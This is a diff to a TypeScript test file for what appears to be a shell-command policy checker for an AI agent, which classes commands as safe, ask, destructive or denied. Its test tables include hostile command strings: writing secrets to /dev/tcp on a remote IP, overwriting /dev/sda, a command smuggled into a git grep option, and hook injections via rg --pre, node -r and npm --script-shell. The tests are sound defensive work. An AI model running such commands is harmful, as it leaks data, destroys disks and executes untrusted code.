@@ -87,7 +87,7 @@ describe('commandPolicy', () => {
       ['echo x > /dev/sda', 'denied'],
       ['echo secrets > /dev/tcp/203.0.113.1/80', 'ask'],
       ['cat < input.txt', 'safe', []],
-      ['cd sub && echo x > f', 'ask'],
+      ['cd sub && echo x > f', 'destructive', ['sub/f']],
     ]);
 
     it('reports a non-literal write target', () => {
@@ -362,5 +362,159 @@ describe('commandPolicy', () => {
       ['git diff $ARGS', 'ask'],
       ['eslint $ARGS src', 'ask'],
     ]);
+  });
+
+  describe('options in every spelling: separate values, unique prefixes, clusters', () => {
+    check([
+      ['git diff --output /abs/f', 'destructive', ['/abs/f']],
+      ['git diff --outp=/abs/f', 'destructive', ['/abs/f']],
+      ['git log -p --output /abs/f', 'destructive', ['/abs/f']],
+      ['sort --outp=/abs/f a.txt', 'destructive', ['/abs/f']],
+      ['sort --outp /abs/f a.txt', 'destructive', ['/abs/f']],
+      ['sort -o/abs/f a.txt', 'destructive', ['/abs/f']],
+      ['sort -ro /abs/f a.txt', 'destructive', ['/abs/f']],
+      ['git grep --open-files="touch /abs/x;" foo', 'ask'],
+      ['git grep --open-files-in-pager="touch /abs/x;" foo', 'ask'],
+      ['git grep --open foo', 'ask'],
+      ['git grep -nO foo', 'ask'],
+      ['git grep -n -Ovim foo', 'ask'],
+      ['git grep -e --open-files foo', 'safe'],
+      ['curl --cookie-j /abs/c https://example.com', 'destructive', ['/abs/c']],
+      ['wget --output-doc=/abs/f https://example.com', 'destructive', ['/abs/f']],
+      ['tsc --outD /abs/out', 'destructive', ['/abs/out']],
+      ['/usr/bin/time --out /abs/t ls', 'destructive', ['/abs/t']],
+      ['tar --extr -f a.tar', 'destructive', ['.']],
+      ['tar -x --direc vendor -f a.tar', 'destructive', ['vendor']],
+      ['rg --pre=./evil foo', 'ask'],
+      ['git branch --del x', 'destructive'],
+      ['eslint --output-f /abs/r src', 'destructive', ['/abs/r']],
+      ['git diff --stat', 'safe', []],
+    ]);
+  });
+
+  describe('programs pointed at configuration or output files the agent chose', () => {
+    check([
+      ['git --git-dir=src/auth/evil status', 'ask'],
+      ['git --git-dir src/auth/evil log', 'ask'],
+      ['git --git-d=src/auth/evil log', 'ask'],
+      ['GIT_DIR=src/auth/evil git status', 'ask'],
+      ['HOME=src/auth git status', 'ask'],
+      ['XDG_CONFIG_HOME=src/auth/xdg git status', 'ask'],
+      ['git -C "$D" status', 'ask'],
+      ['python3 -m json.tool in.json /abs/out', 'destructive', ['/abs/out']],
+      ['python3 -m json.tool --indent 2 in.json out.json', 'destructive', ['out.json']],
+      ['python3 -m json.tool in.json', 'safe', []],
+      ['python3 -m py_compile /abs/x.py', 'destructive', ['/abs/__pycache__']],
+      ['python3 -m py_compile src/a.py src/b/c.py', 'destructive', ['src/__pycache__', 'src/b/__pycache__']],
+      ['python3 -m compileall src', 'destructive', ['src']],
+      ['file -C -m magic', 'destructive', ['magic.mgc']],
+      ['file -C -m src/rules', 'destructive', ['rules.mgc']],
+      ['file --compile', 'destructive', ['magic.mgc']],
+      ['file -m magic x.bin', 'safe', []],
+      ['tree -R -H . -o index.html', 'destructive'],
+    ]);
+
+    it('reports the directories git starts looking for its repository from', () => {
+      assert.deepEqual(analyzeCommand('git -C src/auth/evil status').gitDirectories, ['src/auth/evil']);
+      assert.deepEqual(analyzeCommand('git status').gitDirectories, ['.']);
+      assert.deepEqual(analyzeCommand('git -C src -C auth log').gitDirectories, ['src/auth']);
+      assert.deepEqual(analyzeCommand('cd src/auth && git status').gitDirectories, ['src/auth']);
+      assert.deepEqual(analyzeCommand('git -C /abs/repo status').gitDirectories, ['/abs/repo']);
+    });
+
+    it('resolves git -C for the files git then writes', () => {
+      assert.deepEqual(analyzeCommand('git -C sub diff --output=x.patch').writeTargets, ['sub/x.patch']);
+    });
+  });
+
+  describe('project runners report the files whose commands they run', () => {
+    const runs = (command: string) => analyzeCommand(command, { workspaceRoot: '/home/dev/project', homeDir: '/home/dev' }).executes;
+
+    it('npm, pnpm and yarn run package.json scripts (and read their rc files) from the nearest package.json up', () => {
+      assert.deepEqual(runs('npm test'), [{ path: 'package.json', upward: true }, { path: '.npmrc', upward: true }]);
+      assert.deepEqual(runs('npm --prefix src/auth test'), [{ path: 'src/auth/package.json', upward: true }, { path: 'src/auth/.npmrc', upward: true }]);
+      assert.deepEqual(runs('npm test --prefix=src/auth'), [{ path: 'src/auth/package.json', upward: true }, { path: 'src/auth/.npmrc', upward: true }]);
+      assert.ok(runs('pnpm -C src/auth test').some((e) => e.path === 'src/auth/package.json'));
+      assert.ok(runs('pnpm -C src/auth test').some((e) => e.path === 'src/auth/.pnpmfile.cjs'));
+      assert.ok(runs('yarn --cwd src/auth test').some((e) => e.path === 'src/auth/.yarnrc.yml'));
+      assert.deepEqual(runs('npm ls'), []);
+    });
+
+    it('make runs its makefile, wherever -C and -f point', () => {
+      assert.ok(runs('make').some((e) => e.path === 'Makefile'));
+      assert.ok(runs('make -C src/auth test').some((e) => e.path === 'src/auth/Makefile'));
+      assert.ok(runs('make -f build/rules.mk').some((e) => e.path === 'build/rules.mk'));
+      assert.ok(runs('make -C src -f auth.mk').some((e) => e.path === 'src/auth.mk'));
+    });
+
+    it('pytest loads conftest.py, its ini files and the test files under its paths', () => {
+      const entries = runs('pytest src/auth');
+      assert.ok(entries.some((e) => e.path === 'conftest.py' && e.upward));
+      assert.ok(entries.some((e) => e.path === 'pytest.ini' && e.upward));
+      assert.ok(entries.some((e) => e.path === 'src/auth/**/conftest.py'));
+      assert.ok(entries.some((e) => e.path === 'src/auth/**/test_*.py'));
+      assert.ok(runs('python3 -m pytest -q').some((e) => e.path === '**/test_*.py'));
+      assert.ok(runs('pytest tests/test_a.py::test_x').some((e) => e.path === 'tests/test_a.py'));
+    });
+
+    it('node runs its script', () => {
+      assert.deepEqual(runs('node scripts/build.js --fast'), [{ path: 'scripts/build.js', upward: false }]);
+      assert.deepEqual(runs('cd scripts && node build.js'), [{ path: 'scripts/build.js', upward: false }]);
+    });
+
+    check([
+      ['node scripts/build.js', 'safe'],
+      ['node -r ./hook.js scripts/build.js', 'ask'],
+      ['node --import=./hook.mjs scripts/build.js', 'ask'],
+      ['make --eval="x:=1"', 'ask'],
+      ['make -f - all', 'ask'],
+      ['pytest -p evil', 'ask'],
+      ['pytest -p no:cacheprovider', 'safe'],
+      ['pytest --basetemp=/abs/tmp', 'destructive', ['/abs/tmp']],
+      ['pytest --junitxml=/abs/r.xml', 'destructive', ['/abs/r.xml']],
+      ['npm test --script-shell=./evil.sh', 'ask'],
+      ['npm run build --node-options=--require=./x.js', 'ask'],
+      ['make -C "$D"', 'ask'],
+      ['npm --prefix "$D" test', 'ask'],
+    ]);
+  });
+
+  describe('cd, pushd and popd with literal arguments move later relative targets', () => {
+    check([
+      ['cd src/auth && touch ok.txt', 'destructive', ['src/auth/ok.txt']],
+      ['cd src && cd auth && touch ok.txt', 'destructive', ['src/auth/ok.txt']],
+      ['cd src/auth\ntouch ok.txt', 'destructive', ['src/auth/ok.txt', 'ok.txt']],
+      ['cd src/auth; touch ok.txt', 'destructive', ['src/auth/ok.txt', 'ok.txt']],
+      ['cd src/auth || touch ok.txt', 'destructive', ['ok.txt']],
+      ['cd src/auth && touch a && cd .. && touch b', 'destructive', ['src/auth/a', 'src/b']],
+      ['pushd src/auth && touch a && popd && touch b', 'destructive', ['src/auth/a', 'b']],
+      ['cd src/auth && echo hi > /abs/f', 'destructive', ['/abs/f']],
+      ['cd /tmp && touch x', 'destructive', ['/tmp/x']],
+      ['cd .. && touch x', 'destructive', ['../x']],
+      ['cd && touch x', 'destructive', ['/home/dev/x']],
+      ['cd ~/w && touch x', 'destructive', ['/home/dev/w/x']],
+      ['cd -- src && touch x', 'destructive', ['src/x']],
+      ['cd -P src && touch x', 'destructive', ['src/x']],
+      ['(cd src && ls) && touch x', 'destructive', ['x']],
+      ['{ cd src && touch a; } && touch b', 'destructive', ['src/a', 'src/b']],
+      ['cd src && ls | grep x > out.txt', 'destructive', ['src/out.txt']],
+      ['cd src && sh -c "touch x"', 'destructive', ['src/x']],
+      ['cd src && tar -xf a.tar -C vendor', 'destructive', ['src/vendor']],
+      ['cd src && find . -delete', 'destructive', ['src']],
+    ]);
+
+    describe('a cd the text cannot follow keeps asking', () => {
+      check([
+        ['cd "$D" && touch x', 'ask'],
+        ['cd $(mktemp -d) && touch x', 'ask'],
+        ['ls | cd src; touch x', 'ask'],
+        ['if test -d src; then cd src; fi; touch x', 'ask'],
+        ['for d in a b; do cd src; touch x; done', 'ask'],
+        ['cd src &\ntouch x', 'destructive', ['x']],
+        ['cd - && touch x', 'ask'],
+        ['cd a b && touch x', 'ask'],
+        ['CDPATH=/tmp; cd src && touch x', 'ask'],
+      ]);
+    });
   });
 });
